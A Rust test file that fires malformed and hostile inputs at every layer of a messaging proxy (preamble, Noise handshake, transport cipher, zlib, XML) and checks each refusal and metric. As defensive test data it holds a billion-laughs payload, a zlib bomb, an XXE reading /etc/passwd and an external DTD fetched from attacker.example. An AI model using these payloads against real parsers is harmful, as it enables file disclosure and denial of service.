//! Hostile input, one table: malformed or malicious bytes at every layer a client reaches
//! (preamble, frames, handshake protobufs, Noise messages, the transport cipher,
//! compression, XML). For each the test asserts exactly what the attacker is told and how
//! the session is counted, that a healthy session beside it keeps exchanging stanzas, and
//! that the proxy still serves new sessions.
//!
//! What the attacker is told follows SPEC §2.9: before its transport cipher exists the
//! proxy can only close; once it exists but before the upstream does, a
//! `<failure reason=…/>`; after, a `<stream:error code=…/>`.

mod support;

use std::sync::atomic::Ordering;

use bytes::BytesMut;
use interop_proxy::frame::{put_header, FrameReader, FrameWriter, MAX_FRAME_LIMIT};
use interop_proxy::noise::{Initiator, Keypair, RecvCipher};
use interop_proxy::sim::{ClientOptions, SimClient};
use interop_proxy::stanza::{compress_frame, Stanza, StanzaCodec, XmlCodec};
use interop_proxy::wa_proto::{ClientFinish, ClientHello, HandshakeMessage, ServerHello};
use prost::Message;
use rand::RngCore;
use support::*;

/// The intro header for version 6.3, the Noise prologue.
const INTRO: [u8; 4] = [0x57, 0x41, 6, 3];

/// What the attack does.
enum Attack {
    /// Raw bytes right after connecting; then the write side is closed if `eof`.
    Bytes { bytes: Vec<u8>, eof: bool },
    /// A Noise handshake that goes wrong in the given way.
    Handshake(Noise),
    /// A complete XX handshake whose ClientPayload is these options' (or these bytes).
    Payload(PayloadOf),
    /// After a login, this plaintext (flags byte + body) through the transport cipher.
    Plain(Vec<u8>),
    /// After a login, a transport-level attack.
    Transport(Cipher),
}

/// Handshake attacks.
enum Noise {
    /// XX ClientFinish with a flipped bit in the static ciphertext.
    TamperedFinishStatic,
    /// XX ClientFinish with a flipped bit in the payload ciphertext.
    TamperedFinishPayload,
    /// XX ClientFinish without `static`.
    FinishWithoutStatic,
    /// XX ClientFinish without `payload`.
    FinishWithoutPayload,
    /// A second ClientHello where the ClientFinish belongs.
    HelloTwice,
    /// IK ClientHello whose static and payload are random: the proxy cannot decrypt it
    /// and answers in XXfallback; the attacker then sends a random ClientFinish.
    IkGarbageStatic,
    /// IK ClientHello whose static ciphertext is not 48 bytes.
    IkShortStatic,
}

/// What the ClientPayload of an otherwise correct handshake is.
enum PayloadOf {
    /// Not a protobuf.
    Garbage,
    /// A product not in `auth.products`.
    Product(i32),
}

/// Transport-cipher attacks after a login.
enum Cipher {
    /// The last byte of the tag flipped.
    BadTag,
    /// A byte of the ciphertext body flipped.
    TamperedBody,
    /// A valid frame sent twice.
    Replay,
    /// A frame of 10 bytes: shorter than a tag.
    TooShortForTag,
    /// A frame of 0 bytes.
    Empty,
    /// A header announcing 16 MiB - 1.
    Oversize,
    /// A header announcing 100 bytes, 10 of them, then end of stream.
    Truncated,
    /// Ciphertext sealed under a different key (a stale or foreign session).
    ForeignKey,
}

/// One row: name, attack, what the attacker observes, the `reason` label.
struct Case {
    name: &'static str,
    attack: Attack,
    /// What the attacker receives before the close: `hello`, `hello+static`,
    /// `failure 401`, `stream:error 400`, … (empty: a bare close).
    expect: &'static [&'static str],
    reason: &'static str,
}

fn case(
    name: &'static str,
    attack: Attack,
    expect: &'static [&'static str],
    reason: &'static str,
) -> Case {
    Case {
        name,
        attack,
        expect,
        reason,
    }
}

/// Raw bytes, then end of stream.
fn bytes_eof(bytes: impl Into<Vec<u8>>) -> Attack {
    Attack::Bytes {
        bytes: bytes.into(),
        eof: true,
    }
}

/// Raw bytes, connection left open.
fn bytes(bytes: impl Into<Vec<u8>>) -> Attack {
    Attack::Bytes {
        bytes: bytes.into(),
        eof: false,
    }
}

/// The intro followed by one frame holding `body`.
fn intro_frame(body: &[u8]) -> Vec<u8> {
    let mut out = BytesMut::from(&INTRO[..]);
    put_header(&mut out, body.len());
    out.extend_from_slice(body);
    out.to_vec()
}

/// The intro followed by a handshake message with this ClientHello.
fn intro_hello(hello: ClientHello) -> Vec<u8> {
    intro_frame(
        &HandshakeMessage {
            client_hello: Some(hello),
            ..Default::default()
        }
        .encode_to_vec(),
    )
}

fn random(n: usize) -> Vec<u8> {
    let mut v = vec![0u8; n];
    rand::thread_rng().fill_bytes(&mut v);
    v
}

/// Plaintext with flags `0x00`.
fn xml(body: impl AsRef<[u8]>) -> Attack {
    let mut plain = vec![0u8];
    plain.extend_from_slice(body.as_ref());
    Attack::Plain(plain)
}

/// Plaintext with the given flags byte.
fn flagged(flags: u8, body: impl AsRef<[u8]>) -> Attack {
    let mut plain = vec![flags];
    plain.extend_from_slice(body.as_ref());
    Attack::Plain(plain)
}

const CLOSE: &[&str] = &[];
const E400: &[&str] = &["stream:error 400"];
const E413: &[&str] = &["stream:error 413"];

fn cases() -> Vec<Case> {
    use Attack::*;
    let hello_only = ClientHello {
        ephemeral: Some(Keypair::generate().public.to_vec()),
        ..Default::default()
    };
    let billion_laughs = concat!(
        "<!DOCTYPE lolz [<!ENTITY lol 'lol'>",
        "<!ENTITY lol1 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>",
        "<!ENTITY lol2 '&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;'>",
        "<!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>]>",
        "<message>&lol3;</message>"
    );
    let zlib_body = compress_frame(b"<iq/>")[1..].to_vec();
    let mut zlib_trailing = zlib_body.clone();
    zlib_trailing.extend_from_slice(b"junk");
    let zlib_truncated = zlib_body[..zlib_body.len() - 3].to_vec();
    let mut raw_deflate = zlib_body[2..].to_vec();
    raw_deflate.truncate(raw_deflate.len() - 4);
    let deep = format!("{}{}", "<a>".repeat(33), "</a>".repeat(33));
    let attrs: String = (0..65).map(|i| format!(" a{i}='x'")).collect();
    vec![
        // --- Preamble: no cipher yet, so every refusal is a bare close.
        case("bad magic", bytes(*b"XA\x06\x03"), CLOSE, "protocol_error"),
        case(
            "http request",
            bytes(*b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "tls client hello",
            bytes(*b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "bad version",
            bytes(*b"WA\x05\x02"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "version 0.0",
            bytes(*b"WA\x00\x00"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "routing over 4096 bytes",
            bytes(*b"ED\x00\x01\x00\x10\x01"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "routing of 16 MiB",
            bytes(*b"ED\x00\x01\xff\xff\xff"),
            CLOSE,
            "protocol_error",
        ),
        case(
            "routing then bad magic",
            bytes(*b"ED\x00\x01\x00\x00\x02xyWB\x06\x03"),
            CLOSE,
            "protocol_error",
        ),
        case("truncated intro", bytes_eof(*b"WA"), CLOSE, "client_closed"),
        case(
            "truncated routing",
            bytes_eof(*b"ED\x00\x01\x00\x00\x64abcdefghij"),
            CLOSE,
            "client_closed",
        ),
        // --- Frames before the handshake.
        case(
            "oversize first frame",
            bytes([&INTRO[..], b"\xff\xff\xff"].concat()),
            CLOSE,
            "limit_exceeded",
        ),
        case(
            "truncated first frame",
            bytes_eof([&INTRO[..], b"\x00\x00\x30hello"].concat()),
            CLOSE,
            "client_closed",
        ),
        case(
            "zero-length first frame",
            bytes(intro_frame(b"")),
            CLOSE,
            "protocol_error",
        ),
        // --- Handshake protobufs.
        case(
            "garbage protobuf",
            bytes(intro_frame(&[0xff; 40])),
            CLOSE,
            "protocol_error",
        ),
        case(
            "truncated protobuf",
            bytes(intro_frame(&[0x12, 0x22, 0x0a, 0x20, 1, 2, 3])),
            CLOSE,
            "protocol_error",
        ),
        case(
            "ServerHello sent by the client",
            bytes(intro_frame(
                &HandshakeMessage {
                    server_hello: Some(ServerHello {
                        ephemeral: Some(vec![9; 32]),
                        r#static: Some(vec![9; 48]),
                        payload: Some(vec![9; 32]),
                    }),
                    ..Default::default()
                }
                .encode_to_vec(),
            )),
            CLOSE,
            "protocol_error",
        ),
        case(
            "ClientFinish first",
            bytes(intro_frame(
                &HandshakeMessage {
                    client_finish: Some(ClientFinish {
                        r#static: Some(vec![1; 48]),
                        payload: Some(vec![1; 32]),
                    }),
                    ..Default::default()
                }
                .encode_to_vec(),
            )),
            CLOSE,
            "protocol_error",
        ),
        case(
            "ClientHello without ephemeral",
            bytes(intro_hello(ClientHello::default())),
            CLOSE,
            "handshake_failed",
        ),
        case(
            "ephemeral of 31 bytes",
            bytes(intro_hello(ClientHello {
                ephemeral: Some(vec![7; 31]),
                ..Default::default()
            })),
            CLOSE,
            "handshake_failed",
        ),
        case(
            "ephemeral of 33 bytes",
            bytes(intro_hello(ClientHello {
                ephemeral: Some(vec![7; 33]),
                ..Default::default()
            })),
            CLOSE,
            "handshake_failed",
        ),
        case(
            "unknown fields only (post-quantum 4-10) and no ClientHello",
            bytes(intro_frame(&[0x2a, 0x02, 0x01, 0x02, 0x50, 0x01])),
            CLOSE,
            "protocol_error",
        ),
        case(
            "ClientHello, then silence and end of stream",
            bytes_eof(intro_hello(hello_only)),
            &["hello+static"],
            "client_closed",
        ),
        // --- Noise messages.
        case(
            "tampered static ciphertext in ClientFinish",
            Handshake(Noise::TamperedFinishStatic),
            &["hello+static"],
            "handshake_failed",
        ),
        case(
            "tampered payload in ClientFinish",
            Handshake(Noise::TamperedFinishPayload),
            &["hello+static"],
            "handshake_failed",
        ),
        case(
            "ClientFinish without static",
            Handshake(Noise::FinishWithoutStatic),
            &["hello+static"],
            "handshake_failed",
        ),
        case(
            "ClientFinish without payload",
            Handshake(Noise::FinishWithoutPayload),
            &["hello+static"],
            "handshake_failed",
        ),
        case(
            "ClientHello where ClientFinish belongs",
            Handshake(Noise::HelloTwice),
            &["hello+static"],
            "protocol_error",
        ),
        case(
            "IK with garbage static, then garbage ClientFinish",
            Handshake(Noise::IkGarbageStatic),
            &["hello+static"],
            "handshake_failed",
        ),
        case(
            "IK with a static of 10 bytes",
            Handshake(Noise::IkShortStatic),
            CLOSE,
            "handshake_failed",
        ),
        // --- Inside a complete handshake: the client's cipher exists, the upstream not.
        case(
            "ClientPayload not a protobuf",
            Payload(PayloadOf::Garbage),
            &["failure 400"],
            "protocol_error",
        ),
        case(
            "product not allowed",
            Payload(PayloadOf::Product(99)),
            &["failure 403"],
            "auth_failed",
        ),
        // --- The transport cipher, after the login.
        case("bad tag", Transport(Cipher::BadTag), E400, "protocol_error"),
        case(
            "tampered ciphertext",
            Transport(Cipher::TamperedBody),
            E400,
            "protocol_error",
        ),
        case(
            "replayed frame",
            Transport(Cipher::Replay),
            E400,
            "protocol_error",
        ),
        case(
            "frame too short for a tag",
            Transport(Cipher::TooShortForTag),
            E400,
            "protocol_error",
        ),
        case(
            "zero-length transport frame",
            Transport(Cipher::Empty),
            E400,
            "protocol_error",
        ),
        case(
            "frame sealed under another key",
            Transport(Cipher::ForeignKey),
            E400,
            "protocol_error",
        ),
        case(
            "oversize transport frame",
            Transport(Cipher::Oversize),
            E413,
            "limit_exceeded",
        ),
        case(
            "truncated transport frame",
            Transport(Cipher::Truncated),
            CLOSE,
            "client_closed",
        ),
        // --- Stanza framing and compression.
        case(
            "empty plaintext, no flags byte",
            Plain(Vec::new()),
            E400,
            "protocol_error",
        ),
        case(
            "zlib bomb",
            Plain(compress_frame(&vec![b'<'; 8 * 1024 * 1024])),
            E413,
            "limit_exceeded",
        ),
        case(
            "corrupt zlib",
            flagged(0x02, b"\x78\x9c\xff\xff\xff"),
            E400,
            "protocol_error",
        ),
        case(
            "zlib with trailing bytes",
            flagged(0x02, &zlib_trailing),
            E400,
            "protocol_error",
        ),
        case(
            "truncated zlib",
            flagged(0x02, &zlib_truncated),
            E400,
            "protocol_error",
        ),
        case(
            "raw deflate without zlib header",
            flagged(0x02, &raw_deflate),
            E400,
            "protocol_error",
        ),
        case(
            "empty zlib body",
            flagged(0x02, b""),
            E400,
            "protocol_error",
        ),
        case(
            "compressed doctype",
            Plain(compress_frame(b"<!DOCTYPE iq><iq/>")),
            E400,
            "protocol_error",
        ),
        case(
            "unknown flag 0x04",
            flagged(0x04, b"<iq/>"),
            E400,
            "protocol_error",
        ),
        case(
            "unknown flag 0x01",
            flagged(0x01, b"<iq/>"),
            E400,
            "protocol_error",
        ),
        case(
            "compressed plus unknown flag",
            flagged(0x06, &zlib_body),
            E400,
            "protocol_error",
        ),
        // --- XML.
        case(
            "xml declaration",
            xml("<?xml version='1.0'?><iq/>"),
            E400,
            "protocol_error",
        ),
        case("doctype", xml("<!DOCTYPE iq><iq/>"), E400, "protocol_error"),
        case(
            "entity declaration",
            xml("<!DOCTYPE iq [<!ENTITY x 'y'>]><iq>&x;</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "billion laughs",
            xml(billion_laughs),
            E400,
            "protocol_error",
        ),
        case(
            "undeclared entity use only",
            xml("<message>&lol3;</message>"),
            E400,
            "protocol_error",
        ),
        case(
            "external entity",
            xml("<!DOCTYPE iq [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><iq>&x;</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "external parameter entity",
            xml("<!DOCTYPE iq [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><iq/>"),
            E400,
            "protocol_error",
        ),
        case(
            "processing instruction",
            xml("<iq><?pi x?></iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "cdata",
            xml("<iq><![CDATA[<x/>]]></iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "unknown entity",
            xml("<iq>&nbsp;</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "char ref to NUL",
            xml("<iq>&#0;</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "char ref beyond Unicode",
            xml("<iq>&#x110000;</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "invalid utf-8",
            xml(b"<iq>\xff\xfe</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "overlong utf-8",
            xml(b"<iq>\xc0\xbc</iq>"),
            E400,
            "protocol_error",
        ),
        case(
            "invalid utf-8 in a name",
            xml(b"<i\xffq/>"),
            E400,
            "protocol_error",
        ),
        case("two roots", xml("<iq/><iq/>"), E400, "protocol_error"),
        case(
            "text outside the root",
            xml("<iq/>junk"),
            E400,
            "protocol_error",
        ),
        case("no root at all", xml("   "), E400, "protocol_error"),
        case("comment only", xml("<!-- x -->"), E400, "protocol_error"),
        case("unclosed tags", xml("<iq><a>"), E400, "protocol_error"),
        case(
            "mismatched end tag",
            xml("<iq></a>"),
            E400,
            "protocol_error",
        ),
        case(
            "duplicate attribute",
            xml("<iq a='1' a='2'/>"),
            E400,
            "protocol_error",
        ),
        case(
            "raw < in an attribute",
            xml("<iq a='<'/>"),
            E400,
            "protocol_error",
        ),
        case(
            "bare ampersand",
            xml("<iq>a & b</iq>"),
            E400,
            "protocol_error",
        ),
        case("too deep", xml(deep), E413, "limit_exceeded"),
        case(
            "many attributes",
            xml(format!("<iq{attrs}/>")),
            E413,
            "limit_exceeded",
        ),
        case(
            "too long",
            xml(format!("<iq>{}</iq>", "x".repeat(300 * 1024))),
            E413,
            "limit_exceeded",
        ),
    ]
}

/// What the attacker saw, as tokens comparable with [`Case::expect`].
fn describe(stanzas: &[Stanza]) -> Vec<String> {
    stanzas
        .iter()
        .map(|s| {
            let root = s.root();
            match root.name() {
                "failure" => format!("failure {}", attr(s, "reason").unwrap_or_default()),
                "stream:error" => format!("stream:error {}", attr(s, "code").unwrap_or_default()),
                other => other.to_string(),
            }
        })
        .collect()
}

/// Splits raw bytes received before the handshake into tokens: each frame must be a
/// ServerHello (`hello`, or `hello+static` when it carries a static key).
fn describe_handshake(bytes: &[u8]) -> Vec<String> {
    let mut buf = BytesMut::from(bytes);
    let mut out = Vec::new();
    while !buf.is_empty() {
        match interop_proxy::frame::decode_frame(&mut buf, MAX_FRAME_LIMIT) {
            Ok(Ok(frame)) => match HandshakeMessage::decode(frame.as_ref()) {
                Ok(HandshakeMessage {
                    server_hello: Some(h),
                    ..
                }) => out.push(
                    if h.r#static.is_some() {
                        "hello+static"
                    } else {
                        "hello"
                    }
                    .into(),
                ),
                _ => out.push(format!("frame of {} bytes", frame.len())),
            },
            _ => {
                out.push(format!("{} stray bytes", buf.len()));
                break;
            }
        }
    }
    out
}

/// A handshake driven by hand over a plain socket.
struct Manual {
    reader: FrameReader,
    writer: FrameWriter,
}

impl Manual {
    async fn connect(d: &Deployment) -> Self {
        let stream = tokio::net::TcpStream::connect(d.proxy_addr).await.unwrap();
        let (read, write) = stream.into_split();
        let mut writer = FrameWriter::new(write);
        writer.write_raw(&INTRO).await.unwrap();
        Self {
            reader: FrameReader::new(read, MAX_FRAME_LIMIT),
            writer,
        }
    }

    async fn send(&mut self, message: HandshakeMessage) {
        let _ = self.writer.write_message(&message).await;
    }

    async fn server_hello(&mut self) -> ServerHello {
        let frame = tokio::time::timeout(WAIT, self.reader.next_frame())
            .await
            .unwrap()
            .unwrap()
            .expect("a ServerHello");
        HandshakeMessage::decode(frame.as_ref())
            .unwrap()
            .server_hello
            .expect("a ServerHello")
    }

    /// Frames until the close; decrypted with `cipher` when given.
    async fn rest(&mut self, mut cipher: Option<RecvCipher>) -> Vec<String> {
        let codec = XmlCodec::default();
        let mut out = Vec::new();
        loop {
            match tokio::time::timeout(WAIT, self.reader.next_frame())
                .await
                .expect("connection did not close")
            {
                Ok(Some(mut frame)) => match cipher.as_mut() {
                    Some(c) => {
                        let len = c.decrypt_in_place(&mut frame).expect("decrypts");
                        frame.truncate(len);
                        let stanza = codec.decode(frame.freeze()).expect("a stanza");
                        out.extend(describe(&[stanza]));
                    }
                    None => out.extend(describe_handshake(&{
                        let mut framed = BytesMut::new();
                        put_header(&mut framed, frame.len());
                        framed.extend_from_slice(&frame);
                        framed
                    })),
                },
                Ok(None) | Err(_) => return out,
            }
        }
    }
}

fn hello_message(hello: ClientHello) -> HandshakeMessage {
    HandshakeMessage {
        client_hello: Some(hello),
        ..Default::default()
    }
}

fn finish_message(finish: ClientFinish) -> HandshakeMessage {
    HandshakeMessage {
        client_finish: Some(finish),
        ..Default::default()
    }
}

fn flip_last(v: &mut Option<Vec<u8>>) {
    let v = v.as_mut().unwrap();
    let last = v.len() - 1;
    v[last] ^= 1;
}

/// Runs a handshake attack; returns what the attacker saw.
async fn noise_attack(d: &Deployment, attack: &Noise) -> Vec<String> {
    let options = ClientOptions::new(42);
    let payload = options.payload();
    let mut m = Manual::connect(d).await;
    let mut seen = Vec::new();
    if let Noise::IkGarbageStatic | Noise::IkShortStatic = attack {
        let len = if matches!(attack, Noise::IkShortStatic) {
            10
        } else {
            48
        };
        m.send(hello_message(ClientHello {
            ephemeral: Some(Keypair::generate().public.to_vec()),
            r#static: Some(random(len)),
            payload: Some(random(64)),
        }))
        .await;
        if matches!(attack, Noise::IkShortStatic) {
            return m.rest(None).await;
        }
        let hello = m.server_hello().await;
        seen.push(
            if hello.r#static.is_some() {
                "hello+static"
            } else {
                "hello"
            }
            .to_string(),
        );
        m.send(finish_message(ClientFinish {
            r#static: Some(random(48)),
            payload: Some(random(64)),
        }))
        .await;
        seen.extend(m.rest(None).await);
        return seen;
    }
    let mut initiator = Initiator::new(INTRO, Keypair::generate(), None);
    m.send(hello_message(initiator.client_hello(&payload).unwrap()))
        .await;
    let hello = m.server_hello().await;
    seen.push(
        if hello.r#static.is_some() {
            "hello+static"
        } else {
            "hello"
        }
        .to_string(),
    );
    initiator.read_server_hello(&hello).unwrap();
    let mut finish = initiator.client_finish(&payload).unwrap().unwrap();
    match attack {
        Noise::TamperedFinishStatic => flip_last(&mut finish.r#static),
        Noise::TamperedFinishPayload => flip_last(&mut finish.payload),
        Noise::FinishWithoutStatic => finish.r#static = None,
        Noise::FinishWithoutPayload => finish.payload = None,
        Noise::HelloTwice => {}
        Noise::IkGarbageStatic | Noise::IkShortStatic => unreachable!(),
    }
    if let Noise::HelloTwice = attack {
        m.send(hello_message(ClientHello {
            ephemeral: Some(Keypair::generate().public.to_vec()),
            ..Default::default()
        }))
        .await;
    } else {
        m.send(finish_message(finish)).await;
    }
    seen.extend(m.rest(None).await);
    seen
}

/// Completes an XX handshake with the given ClientPayload; returns what came after.
async fn payload_attack(d: &Deployment, of: &PayloadOf) -> Vec<String> {
    let payload = match of {
        PayloadOf::Garbage => vec![0xff; 20],
        PayloadOf::Product(p) => {
            let mut o = d.client(43);
            o.product = *p;
            o.payload()
        }
    };
    let mut m = Manual::connect(d).await;
    let mut initiator = Initiator::new(INTRO, Keypair::generate(), None);
    m.send(hello_message(initiator.client_hello(&[]).unwrap()))
        .await;
    let hello = m.server_hello().await;
    initiator.read_server_hello(&hello).unwrap();
    let finish = initiator.client_finish(&payload).unwrap().unwrap();
    m.send(finish_message(finish)).await;
    let transport = initiator.into_transport().unwrap();
    m.rest(Some(transport.recv)).await
}

/// Logs in, then runs a transport attack; returns what came back.
async fn cipher_attack(d: &Deployment, account: u64, attack: &Cipher) -> Vec<String> {
    let mut c = SimClient::login(d.proxy_addr, &d.client(account))
        .await
        .unwrap();
    match attack {
        Cipher::BadTag => {
            let mut f = c.seal_frame(b"\x00<iq/>").unwrap();
            *f.last_mut().unwrap() ^= 0x80;
            c.send_raw(&f).await.unwrap();
        }
        Cipher::TamperedBody => {
            let mut f = c.seal_frame(b"\x00<iq id='1'/>").unwrap();
            f[5] ^= 0x01;
            c.send_raw(&f).await.unwrap();
        }
        Cipher::Replay => {
            let f = c.seal_frame(b"\x00<presence/>").unwrap();
            c.send_raw(&f).await.unwrap();
            c.send_raw(&f).await.unwrap();
        }
        Cipher::TooShortForTag => c.send_raw(b"\x00\x00\x0a0123456789").await.unwrap(),
        Cipher::Empty => c.send_raw(b"\x00\x00\x00").await.unwrap(),
        Cipher::Oversize => c.send_raw(b"\xff\xff\xff").await.unwrap(),
        Cipher::Truncated => {
            c.send_raw(b"\x00\x00\x640123456789").await.unwrap();
            c.sink.shutdown().await;
        }
        Cipher::ForeignKey => {
            let mut other = SimClient::login(d.proxy_addr, &d.client(account + 1))
                .await
                .unwrap();
            let f = other.seal_frame(b"\x00<iq/>").unwrap();
            // `other` skipped a nonce by sealing a frame it never sent, so it is of no
            // further use; it just closes.
            other.close().await;
            c.send_raw(&f).await.unwrap();
            return describe(&drain_until_closed(&mut c).await);
        }
    }
    describe(&drain_until_closed(&mut c).await)
}

/// One test at a time: the metrics these tests read are process-wide.
async fn serial() -> tokio::sync::MutexGuard<'static, ()> {
    static LOCK: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
    LOCK.lock().await
}

/// Waits until only `n` sessions are active, so every earlier session's end is counted.
async fn settle(n: u64) {
    let deadline = tokio::time::Instant::now() + WAIT;
    while metric_value("interop_proxy_sessions_active") != n {
        assert!(
            tokio::time::Instant::now() < deadline,
            "sessions never settled to {n}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
}

#[tokio::test]
async fn every_hostile_input_gets_its_exact_outcome_and_harms_no_one_else() {
    let _serial = serial().await;
    let d = Deployment::start(|c, _| speak_xml(c)).await.unwrap();
    let mut healthy = SimClient::login(d.proxy_addr, &d.client(1)).await.unwrap();
    let cases = cases();
    assert!(cases.len() >= 30);
    let mut wrong = Vec::new();
    for (i, case) in cases.iter().enumerate() {
        settle(1).await;
        let before = closed_total(case.reason);
        let account = 1000 + 10 * i as u64;
        let seen: Vec<String> = match &case.attack {
            Attack::Bytes { bytes, eof } => {
                let mut raw = Raw::connect(d.proxy_addr).await;
                raw.send(bytes).await;
                if *eof {
                    raw.shutdown_write().await;
                }
                describe_handshake(&raw.read_to_close().await)
            }
            Attack::Handshake(n) => noise_attack(&d, n).await,
            Attack::Payload(p) => payload_attack(&d, p).await,
            Attack::Plain(plain) => {
                let mut c = SimClient::login(d.proxy_addr, &d.client(account))
                    .await
                    .unwrap();
                c.send_plaintext(plain).await.unwrap();
                describe(&drain_until_closed(&mut c).await)
            }
            Attack::Transport(t) => cipher_attack(&d, account, t).await,
        };
        if seen != case.expect {
            wrong.push(format!(
                "{}: saw {seen:?}, expected {:?}",
                case.name, case.expect
            ));
        }
        settle(1).await;
        let counted = closed_total(case.reason) - before;
        if counted != 1 {
            wrong.push(format!(
                "{}: reason {} counted {counted} times",
                case.name, case.reason
            ));
        }
        echo(&mut healthy, 1, case.name).await;
        fresh_session_works(&d, account + 5).await;
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    // No attack reached the server, except sessions that had logged in.
    assert!(d.server.state().active.load(Ordering::Relaxed) >= 1);
}

#[tokio::test]
async fn hostile_proxy_protocol_headers_are_closed_at_once() {
    let _serial = serial().await;
    let d = Deployment::start(|c, _| {
        speak_xml(c);
        c.client.proxy_protocol = true;
    })
    .await
    .unwrap();
    let src: std::net::SocketAddr = "203.0.113.7:40000".parse().unwrap();
    let mut options = d.client(1);
    options.proxy_header = Some((src, d.proxy_addr));
    let mut healthy = SimClient::login(d.proxy_addr, &options).await.unwrap();
    let good = interop_proxy::transport::proxy_protocol::encode_header(src, d.proxy_addr);
    let mut v1_nibble = good.clone();
    v1_nibble[12] = 0x11;
    let mut short_len = good.clone();
    short_len[15] = 4; // announces fewer bytes than an IPv4 address block
    let hello = intro_hello(ClientHello {
        ephemeral: Some(Keypair::generate().public.to_vec()),
        ..Default::default()
    });
    let cases: Vec<(&str, Attack, &str)> = vec![
        // Without the balancer's header, the client's own bytes are not waited on.
        ("no PROXY header", bytes(hello), "protocol_error"),
        (
            "PROXY v1 text",
            bytes(*b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n"),
            "protocol_error",
        ),
        ("version nibble 1", bytes(v1_nibble), "protocol_error"),
        (
            "length too short for the addresses",
            bytes([&short_len[..20], &INTRO[..]].concat()),
            "protocol_error",
        ),
        (
            "truncated header",
            bytes_eof(good[..20].to_vec()),
            "client_closed",
        ),
    ];
    for (i, (name, attack, reason)) in cases.into_iter().enumerate() {
        settle(1).await;
        let before = closed_total(reason);
        let Attack::Bytes { bytes, eof } = attack else {
            unreachable!()
        };
        let mut raw = Raw::connect(d.proxy_addr).await;
        raw.send(&bytes).await;
        if eof {
            raw.shutdown_write().await;
        }
        let seen = raw
            .read_to_close_within(std::time::Duration::from_secs(2))
            .await;
        assert!(seen.is_empty(), "{name}: {seen:?}");
        drop(raw);
        settle(1).await;
        assert_eq!(closed_total(reason), before + 1, "{name}");
        echo(&mut healthy, 1, name).await;
        let mut fresh = d.client(100 + i as u64);
        fresh.proxy_header = Some((src, d.proxy_addr));
        let mut c = SimClient::login(d.proxy_addr, &fresh).await.unwrap();
        echo(&mut c, 100 + i as u64, "fresh").await;
        c.close().await;
    }
}
